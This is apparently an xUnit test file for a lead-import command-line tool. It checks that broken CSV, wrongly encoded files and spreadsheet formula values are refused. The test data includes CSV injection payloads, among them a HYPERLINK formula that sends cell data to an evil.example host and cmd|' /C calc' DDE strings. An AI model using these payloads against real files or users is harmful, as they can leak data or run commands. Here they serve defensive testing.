using System.Text;
using System.Text.Json;
using Azure.Data.Tables;
using LeadFunctions.Cli.Import;

namespace LeadFunctions.Tests.Cli.Import;

/// <summary>
/// <c>import</c> refuses what it cannot read for certain instead of guessing: a file that is not UTF-8, a row whose
/// quotes or fields do not add up, a value a spreadsheet would run as a formula. It says which line, never what the
/// line holds, sends nothing when rows cannot be told apart, and exits non-zero.
/// </summary>
public sealed class ImportRefusesToGuessTests(Azurite azurite) : IClassFixture<Azurite>, IDisposable
{
    private const string Header = "First name,Last name,Email,Company,Offer,Action";
    private const string Sam = "Sam,Lee,sam@adventure-works.example,Adventure Works,Contoso Analytics,INS";

    private static readonly Dictionary<string, string?> KeepQueued = new() { ["Standalone:ProcessQueue"] = "false" };

    private readonly ImportFiles _files = new();

    [Theory]
    // The probe's case: the quote opened before Silva closes before Wei, so Ana and Li became one lead.
    [InlineData("text after a closing quote", $"{Header}\nAna,\"Silva,ana@fabrikam.example,Fabrikam,Contoso Analytics,PLT\nLi,\"Wei,li@northwind.example,Northwind,Contoso Analytics,INS\n{Sam}\n", 2)]
    [InlineData("a quote that is never closed", $"{Header}\n{Sam}\nAna,Silva,ana@fabrikam.example,\"Fabrikam,Contoso Analytics,PLT\nLi,Wei,li@northwind.example,Northwind,Contoso Analytics,INS\n", 3)]
    // Valid RFC 4180, and still two people in one row: a name never spans lines.
    [InlineData("a line break inside a quoted name", $"{Header}\nAna,\"Silva\nLi\",li@northwind.example,Northwind,Contoso Analytics,INS\n{Sam}\n", 2)]
    [InlineData("a stray quote", $"{Header}\nAna,Sil\"va,ana@fabrikam.example,Fabrikam,Contoso Analytics,PLT\n{Sam}\n", 2)]
    // The probe's junk lead: a carriage return alone ends a line, so the row fell into two.
    [InlineData("a stray carriage return", $"{Header}\nAna,Silva,ana@fabrikam.example,Fab\rrikam,Contoso Analytics,PLT\n{Sam}\n", 2)]
    [InlineData("a row with fewer fields", $"{Header}\n{Sam}\nAna,Silva,ana@fabrikam.example\n", 3)]
    [InlineData("a row with more fields", $"{Header}\nAna,Silva,ana@fabrikam.example,Fabrikam, Inc.,Contoso Analytics,PLT\n{Sam}\n", 2)]
    public async Task Csv_whose_rows_cannot_be_told_apart_is_refused_by_line_and_nothing_is_sent(string problem, string csv, int line)
    {
        await using var app = await TestApp.StartAsync(azurite, KeepQueued);

        var run = await ImportFiles.ImportAsync(app, _files.Write("leads.csv", csv));

        Assert.True(run.ExitCode == 1, $"{problem}: {run}");
        Assert.Contains($"line {line}: refused: ", run.Output, StringComparison.Ordinal);
        Assert.Contains("Nothing sent", run.Output, StringComparison.Ordinal);
        await AssertNothingSentNorPrintedAsync(app, run);
    }

    [Fact]
    public async Task File_that_is_not_UTF8_is_refused_with_the_line_of_its_first_bad_byte_and_nothing_is_sent()
    {
        await using var app = await TestApp.StartAsync(azurite, KeepQueued);
        var file = _files.Write("latin1.csv", Encoding.Latin1.GetBytes($"{Header}\n{Sam}\nJérôme,Dupont,jerome@contoso.example,Contoso,Contoso Analytics,PLT\n"));

        var run = await ImportFiles.ImportAsync(app, file);

        Assert.True(run.ExitCode == 2, run.ToString());
        Assert.Contains("not UTF-8", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 3", run.Error, StringComparison.Ordinal);
        Assert.Contains("--encoding", run.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("Dupont", run.All, StringComparison.Ordinal);
        await AssertNothingSentNorPrintedAsync(app, run);
    }

    [Fact]
    public async Task Latin1_file_is_read_with_its_accents_when_its_encoding_is_named()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var file = _files.Write("latin1.csv", Encoding.Latin1.GetBytes($"{Header}\nJérôme,Dupont,jerome@contoso.example,Contoso,Contoso Analytics,PLT\n"));

        var run = await ImportFiles.ImportAsync(app, file, "--encoding", "latin1");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal("Jérôme", (await DeliveredCustomerAsync(app)).GetProperty("FirstName").GetString());
    }

    [Fact]
    public async Task Utf16_file_with_a_byte_order_mark_is_read_as_UTF16()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var file = _files.Write("unicode.csv", [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes($"{Header}\nJérôme,Dupont,jerome@contoso.example,Contoso,Contoso Analytics,PLT\n")]);

        var run = await ImportFiles.ImportAsync(app, file);

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal("Jérôme", (await DeliveredCustomerAsync(app)).GetProperty("FirstName").GetString());
    }

    [Fact]
    public async Task Values_a_spreadsheet_would_run_as_formulas_are_refused_and_phone_numbers_and_hyphens_are_not()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var csv = """
            First name,Last name,Email,Phone,Company,Description
            Ana,Silva,ana@fabrikam.example,+1 425 555 0100,Fabrikam,Wants a demo
            Jean-Luc,Picard,jl@contoso.example,-,Contoso,"Call after 5, not before"
            Eve,"=HYPERLINK(""http://evil.example/?""&A2,""Click"")",eve@evil.example,,,
            Mal,Ory,mal@evil.example,+SUM(1+1)*cmd|' /C calc'!A0,,
            Oz,Oz,oz@evil.example,,@SUM(1+1),
            Tab,Tab,tab@evil.example,,,"	=1+2"
            Neg,Neg,neg@evil.example,,,-2+3+cmd|' /C calc'!A0
            """;

        var run = await ImportFiles.ImportAsync(app, _files.Write("leads.csv", csv));

        Assert.True(run.ExitCode == 1, run.ToString());
        Assert.Contains("Done: 7 leads: 2 imported, 0 duplicate, 0 rejected, 0 failed, 5 refused.", run.Output, StringComparison.Ordinal);
        Assert.Contains("line 4: refused: the UserDetails.LastName value starts with '=', which a spreadsheet would run as a formula", run.Output, StringComparison.Ordinal);
        Assert.Contains("line 5: refused: the UserDetails.Phone value starts with '+'", run.Output, StringComparison.Ordinal);
        Assert.Contains("line 6: refused: the UserDetails.Company value starts with '@'", run.Output, StringComparison.Ordinal);
        Assert.Contains("line 7: refused: the Description value starts with '='", run.Output, StringComparison.Ordinal);
        Assert.Contains("line 8: refused: the Description value starts with '-'", run.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("HYPERLINK", run.All, StringComparison.Ordinal);
        Assert.DoesNotContain("calc", run.All, StringComparison.Ordinal);
        AssertNothingPersonal(run);

        Assert.True(await TestApp.EventuallyAsync(async () => await app.CountRowsAsync() == 2), "the two plain leads were not delivered");
        var customers = (await app.Table.QueryAsync<TableEntity>().ToListAsync()).Select(r => JsonDocument.Parse(r.GetString("CustomerInfo")).RootElement).ToList();
        Assert.Contains(customers, c => c.GetProperty("Phone").GetString() == "+1 425 555 0100");
        Assert.Contains(customers, c => c.GetProperty("FirstName").GetString() == "Jean-Luc" && c.GetProperty("Phone").GetString() == "-");
    }

    [Theory]
    [InlineData("=1+1", '=')]
    [InlineData("+SUM(A1:A9)", '+')]
    [InlineData("-2+3+cmd|' /C calc'!A0", '-')]
    [InlineData("@SUM(1)", '@')]
    [InlineData("\t=1+2", '=')]
    [InlineData("\r\n+x", '+')]
    [InlineData(" -x", '-')]
    [InlineData("+1 425 555 0100 ext 12", '+')]
    [InlineData("+1 425 555 0100", null)]
    [InlineData("+44 (0)20 7946 0958", null)]
    [InlineData("-5", null)]
    [InlineData("-", null)]
    [InlineData("Jean-Luc", null)]
    [InlineData("ana@fabrikam.example", null)]
    [InlineData("", null)]
    public void A_value_is_a_formula_when_it_starts_with_a_trigger_unless_it_is_a_number_or_a_phone_number(string value, char? trigger) =>
        Assert.Equal(trigger, SpreadsheetFormula.Trigger(value));

    [Fact]
    public async Task Json_line_with_a_formula_value_is_refused_and_the_other_lines_are_sent_verbatim()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var file = _files.Write("leads.jsonl", """
            {"UserDetails":{"FirstName":"Ana","LastName":"Silva","Email":"ana@fabrikam.example","Phone":"+351 21 000 0000"},"ActionCode":"PLT","OfferTitle":"Contoso Analytics"}
            {"UserDetails":{"FirstName":"Mal","LastName":" =cmd|' /C calc'!A0","Email":"mal@evil.example"},"ActionCode":"INS","OfferTitle":"Contoso Analytics"}
            """);

        var run = await ImportFiles.ImportAsync(app, file);

        Assert.True(run.ExitCode == 1, run.ToString());
        Assert.Contains("1 imported, 0 duplicate, 0 rejected, 0 failed, 1 refused.", run.Output, StringComparison.Ordinal);
        Assert.Contains("line 2: refused: the UserDetails.LastName value starts with '='", run.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("calc", run.All, StringComparison.Ordinal);
        Assert.True(await TestApp.EventuallyAsync(async () => await app.CountRowsAsync() == 1));
    }

    [Theory]
    [InlineData("ana@fabrikam.example,Ana,Silva\nli@northwind.example,Li,Wei\n")]
    // A first row whose values happen to include a column name ("Notes") must not be taken for a header either.
    [InlineData("ana@fabrikam.example,Ana,Silva,Notes\nli@northwind.example,Li,Wei,Notes\n")]
    public async Task File_without_a_header_is_refused_without_printing_any_of_its_values(string csv)
    {
        await using var app = await TestApp.StartAsync(azurite, KeepQueued);

        var run = await ImportFiles.ImportAsync(app, _files.Write("leads.csv", csv));

        Assert.True(run.ExitCode == 2, run.ToString());
        Assert.Contains("header", run.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("Ana", run.All, StringComparison.Ordinal);
        await AssertNothingSentNorPrintedAsync(app, run);
    }

    [Fact]
    public async Task Dry_run_lists_the_refused_rows_and_exits_1()
    {
        var csv = $"{Header}\n{Sam}\nAna,Silva,ana@fabrikam.example,@Fabrikam,Contoso Analytics,PLT\n";

        using var closed = new ClosedPort();
        var run = await LeadCliRunner.RunAsync(["import", _files.Write("leads.csv", csv), "--url", $"http://127.0.0.1:{closed.Number}/api/leads", "--dry-run"]);

        Assert.True(run.ExitCode == 1, run.ToString());
        Assert.Contains("line 3: refused: the UserDetails.Company value starts with '@'", run.Output, StringComparison.Ordinal);
        Assert.Contains("Dry run: nothing sent; 1 of 2 leads would be posted.", run.Output, StringComparison.Ordinal);
        AssertNothingPersonal(run);
    }

    [Fact]
    public async Task Help_says_what_is_sent_when_rows_are_refused_and_how_the_command_exits()
    {
        var run = await LeadCliRunner.RunAsync(["import", "--help"]);

        Assert.Equal(0, run.ExitCode);
        var help = string.Join(' ', run.Output.Split((char[])[' ', '\n', '\r'], StringSplitOptions.RemoveEmptyEntries));
        Assert.Contains("Every row is read and checked before anything is sent.", help, StringComparison.Ordinal);
        Assert.Contains("nothing is sent", help, StringComparison.Ordinal);
        Assert.Contains("the others are sent", help, StringComparison.Ordinal);
        Assert.Contains("1 if any row was refused or any lead was rejected, failed or not sent", help, StringComparison.Ordinal);
        Assert.Contains("LEADFUNCTIONS_KEY", help, StringComparison.Ordinal);
        Assert.Contains("--encoding", help, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Key_can_come_from_LEADFUNCTIONS_KEY_so_the_command_line_holds_none()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var url = new Uri(app.BaseAddress, TestApp.LeadsPath(key: null)).ToString();

        var run = await LeadCliRunner.RunAsync(["import", _files.Write("leads.csv", $"{Header}\n{Sam}\n"), "--url", url], new Dictionary<string, string?> { ["LEADFUNCTIONS_KEY"] = TestApp.Key });

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Contains("1 imported", run.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(TestApp.Key, run.All, StringComparison.Ordinal);
        Assert.True(await TestApp.EventuallyAsync(async () => await app.CountRowsAsync() == 1));
    }

    [Fact]
    public async Task Key_is_asked_for_without_echo_when_neither_the_url_nor_the_environment_has_it()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var url = new Uri(app.BaseAddress, TestApp.LeadsPath(key: null)).ToString();
        var asked = new List<string>();

        var run = await LeadCliRunner.RunAsync(
            ["import", _files.Write("leads.csv", $"{Header}\n{Sam}\n"), "--url", url],
            new Dictionary<string, string?> { ["LEADFUNCTIONS_KEY"] = null },
            readSecret: (prompt, _) =>
            {
                asked.Add(prompt);
                return TestApp.Key;
            });

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.StartsWith($"Key for {new Uri(app.BaseAddress, "/api/leads")}", Assert.Single(asked), StringComparison.Ordinal);
        Assert.DoesNotContain(TestApp.Key, run.All, StringComparison.Ordinal);
        Assert.True(await TestApp.EventuallyAsync(async () => await app.CountRowsAsync() == 1));
    }

    [Fact]
    public async Task Without_a_key_and_without_a_terminal_to_ask_on_the_import_sends_nothing_and_says_where_a_key_can_come_from()
    {
        await using var app = await TestApp.StartAsync(azurite, KeepQueued);
        var url = new Uri(app.BaseAddress, TestApp.LeadsPath(key: null)).ToString();

        var run = await LeadCliRunner.RunAsync(["import", _files.Write("leads.csv", $"{Header}\n{Sam}\n"), "--url", url], new Dictionary<string, string?> { ["LEADFUNCTIONS_KEY"] = null });

        Assert.True(run.ExitCode == 2, run.ToString());
        Assert.Contains("LEADFUNCTIONS_KEY", run.Error, StringComparison.Ordinal);
        Assert.Contains("code=", run.Error, StringComparison.Ordinal);
        Assert.Equal(0, await TestApp.CountMessagesAsync(app.Queue));
    }

    public void Dispose() => _files.Dispose();

    /// <summary>No value of any row: names, email domains, companies, formulas.</summary>
    private static void AssertNothingPersonal(CliRun run)
    {
        foreach (var value in (string[])["Silva", "fabrikam", "northwind", "adventure", "evil.example", "Dupont", "Jérôme"])
        {
            Assert.DoesNotContain(value, run.All, StringComparison.OrdinalIgnoreCase);
        }
    }

    private static async Task AssertNothingSentNorPrintedAsync(TestApp app, CliRun run)
    {
        AssertNothingPersonal(run);
        Assert.Equal(0, await TestApp.CountMessagesAsync(app.Queue));
    }

    private static async Task<JsonElement> DeliveredCustomerAsync(TestApp app)
    {
        Assert.True(await TestApp.EventuallyAsync(async () => await app.CountRowsAsync() == 1), "the lead was not delivered");
        var row = Assert.Single(await app.Table.QueryAsync<TableEntity>().ToListAsync());
        return JsonDocument.Parse(row.GetString("CustomerInfo")).RootElement.Clone();
    }
}
